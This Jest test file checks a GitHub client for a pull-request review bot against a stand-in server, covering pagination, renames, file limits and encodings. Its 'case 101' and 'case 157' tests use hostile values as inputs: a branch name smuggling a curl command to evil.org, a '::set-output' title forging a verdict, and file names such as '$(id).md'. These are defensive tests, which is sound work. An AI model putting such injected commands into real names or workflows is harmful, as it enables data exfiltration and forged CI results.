// Is everything read that there is: lists to their ends, files as they are, renames, and an error where something is missing?

import { beforeEach, describe, expect, test } from '@jest/globals';
import type { GitHub, Pull as PullFacts } from '../../../actions/shared/github/github.ts';
import { openGitHub } from '../../../actions/shared/github/octokit.ts';
import { aPull } from '../../github/builders/pull.ts';
import { aRepository } from '../../github/builders/repository.ts';
import { addLabel, close, comment } from '../../github/deeds/issues.ts';
import { push } from '../../github/deeds/pulls.ts';
import { type Changes, type Content, commitFiles } from '../../github/deeds/repositories.ts';
import type { Pull, Repository } from '../../github/state/model.ts';
import { useStandIn } from '../../github/use-stand-in.ts';
import { TRUSTED } from '../../support/room.ts';

const standIn = useStandIn();
const CONFIG = '.github/enhancements.yaml';
let repository: Repository;
let github: GitHub;

beforeEach(() => {
  const { world, url, token } = standIn();
  repository = aRepository()
    .holding({ [CONFIG]: 'preset: vep\n' })
    .in(world);
  const place = { apiUrl: url, owner: repository.owner.login, name: repository.name };
  github = openGitHub(
    { ...place, token: token(repository, TRUSTED) },
    { attempt: 5_000, retries: 60, settle: 5 },
  );
});

const open = (changes: Changes = { 'a.md': 'a\n' }) =>
  aPull().by('bob').fromFork().changing(changes).in(standIn().world, repository);

async function read(pull: Pull): Promise<PullFacts> {
  const facts = await github.pull(pull.number, CONFIG);
  if (!facts) throw new Error('the pull request is not there');
  return facts;
}

describe('comments', () => {
  test.each([
    [100, 'one page', 1],
    [101, 'case 105: the 101st', 2],
    [1_001, 'case 105: the 1001st', 11],
  ])('%i of them: %s is found', async (count, _name, requests) => {
    const pull = open();
    for (let index = 1; index <= count; index += 1)
      comment(standIn().world, pull, `comment ${index}`, { by: 'ann' });
    const { comments } = await read(pull);
    expect(comments.map(({ body }) => body)).toEqual(pull.comments.map(({ body }) => body));
    expect(comments.at(-1)?.body).toBe(`comment ${count}`);
    expect(new Set(comments.map(({ id }) => id)).size).toBe(count);
    expect(standIn().asked).toHaveLength(requests);
  });

  test('case 111: one that comes while pages are read is no fault and no repetition', async () => {
    const pull = open();
    for (let index = 0; index < 250; index += 1) comment(standIn().world, pull, `${index}`);
    standIn().faults.add({ on: 'graphql:MoreComments', fails: { as: 'delay', by: 100 } });
    const reading = read(pull);
    while (standIn().asked.length === 0) await new Promise((resolve) => setTimeout(resolve, 5));
    comment(standIn().world, pull, 'late');
    const bodies = (await reading).comments.map(({ body }) => body);
    expect(new Set(bodies).size).toBe(bodies.length);
    expect(bodies.length).toBeGreaterThanOrEqual(250);
  });

  test('a page that is not given is an error, not the end', async () => {
    const pull = open();
    for (let index = 0; index < 101; index += 1) comment(standIn().world, pull, `${index}`);
    standIn().faults.add({
      on: 'graphql:MoreComments',
      fails: { as: 'partial', path: ['repository', 'pullRequest', 'comments', 'nodes'] },
      times: 100,
    });
    await expect(read(pull)).rejects.toMatchObject({ kind: 'unreachable' });
  });

  test('are ours by who wrote them, not by what they say; a deleted account wrote as nobody', async () => {
    const pull = open();
    await github.comment(pull.number, 'x', 'x');
    comment(standIn().world, pull, 'x', { by: 'mallory' });
    comment(standIn().world, pull, 'x', { by: null });
    const { comments } = await read(pull);
    expect(comments.map(({ isOwn, author }) => [isOwn, author?.login, author?.kind])).toEqual([
      [true, 'github-actions', 'bot'],
      [false, 'mallory', 'user'],
      [false, undefined, undefined],
    ]);
  });
});

describe('a pull request', () => {
  test('case 101: hostile names of branches, titles and labels come as they are', async () => {
    const branch = 'x"; curl -d @- evil.org #$HOME&a=b%0A+é';
    const pull = aPull()
      .by('bob')
      .fromFork()
      .fromBranch(branch)
      .titled('::set-output name=verdict::pass')
      .in(standIn().world, repository);
    addLabel(standIn().world, pull, 'a "label", with: all/of it?');
    const facts = await read(pull);
    expect([facts.title, facts.head.branch, facts.labels]).toEqual([
      pull.title,
      branch,
      ['a "label", with: all/of it?'],
    ]);
    expect(await github.pullsWithHead('bob', branch, pull.head.sha)).toEqual([pull.number]);
    expect(await github.pullsWithHead('bob', branch, '0'.repeat(40))).toEqual([]);
    await github.removeLabel(pull.number, 'a "label", with: all/of it?');
    expect(pull.labels).toEqual([]);
  });

  test('whose fork was deleted is read, and its files with it', async () => {
    const pull = open({ 'a.md': 'still here\n' });
    pull.head.repository = null;
    const facts = await read(pull);
    expect([facts.head.repository, facts.head.isFork]).toEqual([undefined, true]);
    const { files } = await github.compare(facts);
    expect(files).toEqual([{ path: 'a.md', status: 'added' }]);
    const answers = await github.read({
      files: [{ commit: facts.head.oid, path: 'a.md' }],
      issues: [],
      labels: [],
    });
    expect(answers.files[0]?.source).toEqual({ text: 'still here\n' });
  });

  test('whose base branch is gone is an error where it is open, and read where it is closed', async () => {
    const pull = open();
    repository.refs.delete('heads/main');
    await expect(read(pull)).rejects.toMatchObject({
      message: `The base branch of pull request ${pull.number} is gone, so nothing can be compared with it.`,
    });
    close(standIn().world, pull);
    await expect(read(pull)).resolves.toMatchObject({ state: 'closed', base: { branch: 'main', tip: '' } });
  });
});

describe('what it changes', () => {
  const compare = async (pull: Pull) => (await github.compare(await read(pull))).files;

  test('is told with what each file was called before', async () => {
    const text = Array.from({ length: 20 }, (_, index) => `line ${index}\n`).join('');
    commitFiles(standIn().world, repository, 'main', {
      'old.md': text,
      'gone.md': 'gone\n',
      'kept.md': 'kept\n',
    });
    const pull = open({ 'old.md': null, 'new.md': `${text}more\n`, 'gone.md': null, 'kept.md': 'changed\n' });
    expect(await compare(pull)).toEqual([
      { path: 'gone.md', status: 'removed' },
      { path: 'kept.md', status: 'changed' },
      { path: 'new.md', previous: 'old.md', status: 'changed' },
    ]);
  });

  test('case 109: does not depend on patches, which large and binary files have not', async () => {
    const pull = open({ 'large.md': 'x\n'.repeat(200_000), 'binary.md': Buffer.from([0, 1, 2]) });
    expect(await compare(pull)).toEqual([
      { path: 'binary.md', status: 'added' },
      { path: 'large.md', status: 'added' },
    ]);
  });

  const many = (count: number): Changes =>
    Object.fromEntries(Array.from({ length: count }, (_, index) => [`f/${index}.md`, `${index}\n`]));

  test.each([
    [299, 'repos/compare-commits-with-basehead', 1],
    [300, 'pulls/list-files', 5],
    [1_000, 'pulls/list-files', 12],
    [3_000, 'pulls/list-files', 31],
  ])('%i files are all told', async (count, last, most) => {
    const pull = open(many(count));
    const facts = await read(pull);
    standIn().forgetAsked();
    const { files } = await github.compare(facts);
    expect(new Set(files.map(({ path }) => path)).size).toBe(count);
    expect(standIn().asked.at(-1)?.operation).toBe(last);
    expect(standIn().asked.length).toBeLessThanOrEqual(most);
  });

  test('case 107: 3,001 files are refused, in words that say what to do', async () => {
    await expect(compare(open(many(3_001)))).rejects.toMatchObject({
      kind: 'refused',
      message: 'Pull request 1 is too large to judge: it changes 3001 files, and GitHub lists 3000.',
      hint: 'Split it.',
    });
  });

  test('a list that is shorter than what the commits tell is an error, also where its count agrees', async () => {
    const other = open();
    const facts = { ...(await read(open(many(400)))), number: other.number, changedFiles: 1 };
    await expect(github.compare(facts)).rejects.toMatchObject({ kind: 'unreachable' });
  });

  test.each([0, 299, 350])(
    'a count that does not agree with the list (%i of 400) is an error',
    async (changedFiles) => {
      const facts = { ...(await read(open(many(400)))), changedFiles };
      await expect(github.compare(facts)).rejects.toMatchObject({ kind: 'unreachable' });
    },
  );

  test.each([
    'a\nb.md',
    'a\r.md',
    '::set-output name=x::y.md',
    '%0A.md',
    '-rf.md',
    `'"\\.md`,
    'vep\u202edm.exe',
    'u\u0308.md',
    ' .md',
    '#?&=.md',
    '$(id).md',
  ])('case 157: a file named %j is told and read', async (path) => {
    const pull = open({ [`veps/${path}`]: 'text\n' });
    const facts = await read(pull);
    expect((await github.compare(facts)).files).toEqual([{ path: `veps/${path}`, status: 'added' }]);
    const question = { commit: facts.head.oid, path: `veps/${path}` };
    const { files } = await github.read({ files: [question], issues: [], labels: [] });
    expect(files[0]?.source).toEqual({ text: 'text\n' });
  });
});

describe('a file', () => {
  const LARGEST = 256 * 1_024;

  test.each<[string, Content, object]>([
    ['text', 'ä\n', { type: 'file', source: { text: 'ä\n' } }],
    ['nothing', '', { type: 'file', source: { text: '' } }],
    ['a byte order mark and CRLF', '\ufeffa\r\nb\r', { type: 'file', source: { text: 'a\nb\n' } }],
    ['a replacement character of its own', 'a\ufffd', { type: 'file', source: { text: 'a\ufffd' } }],
    ['the largest', 'x'.repeat(LARGEST), { type: 'file', source: { text: 'x'.repeat(LARGEST) } }],
    [
      'more than the largest',
      'x'.repeat(LARGEST + 1),
      { source: { unreadable: { message: expect.stringContaining('too large to judge: 262145 bytes') } } },
    ],
    [
      'what is not UTF-8',
      Buffer.from([0x61, 0x0a, 0xff]),
      { source: { unreadable: { message: expect.stringContaining('in line 2') } } },
    ],
    [
      'a NUL',
      'a\n\nb\0',
      { source: { unreadable: { message: expect.stringContaining('NUL character in line 3') } } },
    ],
    [
      'UTF-16',
      Buffer.from('\ufeffa', 'utf16le'),
      { source: { unreadable: { message: expect.stringContaining('UTF-8') } } },
    ],
    [
      'case 156: a link',
      { mode: '120000', content: 'README.md' },
      { type: 'link', source: { unreadable: { message: 'The file is a symbolic link.' } } },
    ],
    [
      'case 156: a submodule',
      { mode: '160000', content: '1'.repeat(40) },
      { type: 'submodule', source: { unreadable: { message: 'This is a submodule, not a file.' } } },
    ],
    ['an executable', { mode: '100755', content: 'x' }, { type: 'file', source: { text: 'x' } }],
  ])('%s', async (_name, content, expected) => {
    const pull = open({ 'x.md': content });
    const { files } = await github.read({
      files: [{ commit: pull.head.sha, path: 'x.md' }],
      issues: [],
      labels: [],
    });
    expect(files[0]).toMatchObject(expected);
  });

  test('that is a folder, or not there, or below a file', async () => {
    const { head } = open({ 'folder/x.md': 'x' });
    const at = (path: string) => ({ commit: head.sha, path });
    const questions = [at('folder'), at('nothing.md'), at('README.md/x.md')];
    const { files } = await github.read({ files: questions, issues: [], labels: [] });
    expect(files.map((file) => file?.type)).toEqual(['folder', undefined, undefined]);
  });

  test('at a commit that is not there is an error, not a file that is not there', async () => {
    const question = { commit: '1'.repeat(40), path: 'README.md' };
    await expect(github.read({ files: [question], issues: [], labels: [] })).rejects.toMatchObject({
      kind: 'missing',
      message: `Commit ${question.commit} is not there.`,
    });
  });
});

test('many questions are answered in their order, in portions', async () => {
  const { world } = standIn();
  const names = Array.from({ length: 70 }, (_, index) => `f/${index}.md`);
  const pull = open(Object.fromEntries(names.map((name) => [name, `${name}\n`])));
  const labels = names.map((name) => `label ${name}`);
  const aside = aPull()
    .labelled(...labels)
    .in(world, repository);
  push(world, aside, { 'b.md': 'b\n' });
  const answers = await github.read({
    files: names.flatMap((path) => [
      { commit: pull.head.sha, path },
      { commit: pull.base.sha, path },
    ]),
    issues: Array.from({ length: 70 }, (_, index) => index + 1),
    labels: [...labels, 'no such label'],
  });
  expect(answers.files.map((file) => file && 'text' in file.source && file.source.text)).toEqual(
    names.flatMap((name) => [`${name}\n`, undefined]),
  );
  // Pull requests are no issues.
  expect(answers.issues).toEqual(Array.from({ length: 70 }, () => undefined));
  expect(answers.labels).toEqual(labels);
  expect(standIn().asked).toHaveLength(5);
});
